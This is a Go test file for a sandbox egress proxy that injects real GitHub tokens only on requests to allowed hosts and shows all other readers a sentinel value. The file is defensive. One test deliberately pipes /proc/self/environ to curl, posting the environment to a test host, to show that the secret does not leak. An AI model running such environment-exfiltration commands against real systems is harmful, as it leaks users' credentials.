package client_test

import (
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/garita-dev/garita/sandbox"
	"github.com/garita-dev/garita/sandbox/egress/authority"
	"github.com/garita-dev/garita/sandbox/engine/client"
	"github.com/garita-dev/garita/sandbox/sandboxtest"
)

const (
	tokenValue    = "ghp_v41u3000111222333444"
	tokenSentinel = "ghp_S3nt1neL000000000abc"
)

// tell says what came, in words, and in "X-Echo" as it is.
func tell(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	user, password, _ := r.BasicAuth()
	w.Header().Set("X-Echo", r.Header.Get("Authorization"))
	if strings.HasPrefix(r.URL.Path, "/repo.git") && password == "" {
		w.Header().Set("WWW-Authenticate", `Basic realm="x"`)
		w.WriteHeader(http.StatusUnauthorized)
		return
	}
	if strings.HasPrefix(r.URL.Path, "/repo.git") && password == tokenValue {
		registryAndGit(w, r)
		return
	}
	_, _ = fmt.Fprintf(w, "header[%s] body[%s] echo[%s]", which(r.Header.Get("Authorization")+user+password), which(string(body)), r.Header.Get("Authorization"))
}

// believable serves h over TLS at port 443 of address, with certificates that w's wall believes.
func (w *world) believable(address string, h http.Handler) {
	w.t.Helper()
	a, err := authority.New([]sandbox.Endpoint{{Host: "example.test", Port: 443}})
	if err != nil {
		w.t.Fatal(err)
	}
	issuer, err := authority.Open(a)
	if err != nil {
		w.t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(h)
	_ = srv.Listener.Close()
	srv.Listener = w.listen(address, 443)
	srv.EnableHTTP2 = true
	srv.TLS = &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return issuer.Leaf(h.ServerName) }} //nolint:gosec // a test's
	srv.StartTLS()
	w.t.Cleanup(srv.Close)
	w.host.CA = a.Cert
}

// settleTrusting starts a shell that has a sentinel in TOKEN, and verifies certificates.
func (w *world) settleTrusting(e *client.Engine, l sandbox.Allowlist, p client.Placeholder, otherwise ...func(*sandbox.Launch)) *inhabitant {
	w.t.Helper()
	a, err := client.NewAuthority(p.Hosts)
	if err != nil {
		w.t.Fatal(err)
	}
	launch := sandboxtest.Shell(`while read -r line; do eval "$line" 2>&1 | tr '\n' ' '; echo; done`)
	launch.Network, launch.Env, launch.Trust = l, map[string]string{"TOKEN": p.Sentinel, "NODE_NO_WARNINGS": "1", "GIT_TERMINAL_PROMPT": "0"}, a.Cert
	for _, change := range otherwise {
		change(&launch)
	}
	in := &inhabitant{t: w.t, launch: launch, more: make(chan struct{})}
	s := client.Sandbox{ID: launch.ID, Host: w.host, Rules: l, Authority: a, Placeholders: []client.Placeholder{p}, WaitMS: 20000}
	if in.out, err = w.wall.OpenWayOut(w.t.Context(), s, in.see); err != nil {
		w.t.Fatal(err)
	}
	w.t.Cleanup(func() { _ = in.out.Close() })
	in.instance, in.pipes = sandboxtest.Start(w.t, networked{e, in.out}, launch)
	return in
}

func githubToken() client.Placeholder {
	return client.Placeholder{
		Secret: "github", Version: 1, Sentinel: tokenSentinel, Value: client.Hide(tokenValue),
		Places: []sandbox.SecretPlace{{In: sandbox.InHeader, Name: "Authorization"}}, Hosts: []sandbox.Endpoint{{Host: "api.example.test", Port: 443}},
	}
}

// authorized are programs that send their token to a URL, and verify its certificate.
var authorized = []struct{ name, send string }{
	{"curl", `curl -sS -m 20 -H "Authorization: Bearer $TOKEN" URL`},
	{"curl, HTTP/1.1 and Basic", `curl -sS -m 20 --http1.1 -u "me:$TOKEN" URL`},
	{"wget", `wget -qO- -T 20 -t 1 --header "Authorization: token $TOKEN" URL`},
	{"node fetch", `node -e 'fetch("URL",{headers:{authorization:"Bearer "+process.env.TOKEN}}).then(r=>r.text()).then(console.log,e=>{console.log("failed",e.cause)})'`},
	{"node https", `node -e 'require("https").get("URL",{headers:{authorization:process.env.TOKEN}},r=>r.pipe(process.stdout)).on("error",e=>console.log("failed",e))'`},
	{"python urllib", `/usr/bin/python3 -c 'import urllib.request as u,os;print(u.urlopen(u.Request("URL",headers={"Authorization":"Bearer "+os.environ["TOKEN"]}),timeout=20).read().decode())'`},
}

func TestSecretsNeverEnter(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	w.believable("127.77.0.1", http.HandlerFunc(tell))
	w.name("api.example.test", "127.77.0.1")
	w.name("other.example.test", "127.77.0.1")
	in := w.settleTrusting(e, rules(t, "api.example.test", "other.example.test"), githubToken())
	for _, c := range authorized {
		t.Run(c.name, func(t *testing.T) {
			got := in.run(strings.ReplaceAll(c.send, "URL", "https://api.example.test/"))
			if !strings.Contains(got, "header[value:true sentinel:false]") || strings.Contains(got, tokenValue) {
				t.Errorf("the granted host: %s%s", got, in.story())
			}
		})
	}
	t.Run("git", func(t *testing.T) {
		if got := in.run(`git ls-remote https://x-access-token:$TOKEN@api.example.test/repo.git`); !strings.Contains(got, "HEAD") {
			t.Errorf("got %s%s", got, in.story())
		}
	})
	in.await("a use", func(e client.NetworkEvent) bool {
		return e.Secret != nil && e.Secret.Sent && e.Secret.Secret == "github" && e.Secret.Host == "api.example.test"
	})
	t.Run("another allowed host has the sentinel", func(t *testing.T) {
		if got := in.run(`curl -sSk -m 20 -H "Authorization: Bearer $TOKEN" https://other.example.test/`); !strings.Contains(got, "header[value:false sentinel:true]") {
			t.Errorf("got %s%s", got, in.story())
		}
	})
	t.Run("its environment, posted, is worth nothing", func(t *testing.T) {
		if got := in.run(`env; cat /proc/self/environ | tr '\0' ' '`); !strings.Contains(got, tokenSentinel) || strings.Contains(got, tokenValue) {
			t.Errorf("inside: %s", got)
		}
		for _, host := range []string{"api.example.test", "other.example.test"} {
			got := in.run(`cat /proc/self/environ | curl -sSk -m 20 --data-binary @- https://` + host + `/`)
			if !strings.Contains(got, "body[value:false sentinel:true]") {
				t.Errorf("%s: %s%s", host, got, in.story())
			}
		}
		in.await("a sentinel that stayed", func(e client.NetworkEvent) bool { return e.Secret != nil && !e.Secret.Sent && e.Secret.Why != "" })
	})
	t.Run("after it was revoked", func(t *testing.T) {
		if err := in.out.SetSecrets(t.Context(), nil); err != nil {
			t.Fatal(err)
		}
		if got := in.run(`curl -sSk -m 20 -H "Authorization: Bearer $TOKEN" https://api.example.test/`); !strings.Contains(got, "header[value:false sentinel:true]") {
			t.Errorf("got %s%s", got, in.story())
		}
	})
}

func TestASecretThatIsAskedAbout(t *testing.T) {
	e := shared(t)
	w := newWorld(t)
	w.believable("127.77.0.1", http.HandlerFunc(tell))
	w.name("api.example.test", "127.77.0.1")
	p := githubToken()
	p.Consult = true
	in := w.settleTrusting(e, rules(t, "api.example.test"), p)
	for use, allow := range []bool{true, false} {
		go func() {
			asked := in.await("a question", func(e client.NetworkEvent) bool { return e.Wanted != nil && e.Wanted.Use == uint64(use)+1 }) //nolint:gosec // small
			if err := in.out.Leave(t.Context(), asked.Wanted.Use, allow); err != nil {
				t.Error(err)
			}
		}()
		got := in.run(strings.ReplaceAll(authorized[0].send, "URL", "https://api.example.test/"))
		if strings.Contains(got, "value:true") != allow || !allow && !strings.Contains(got, "may not be used") {
			t.Errorf("%v: %s%s", allow, got, in.story())
		}
	}
}
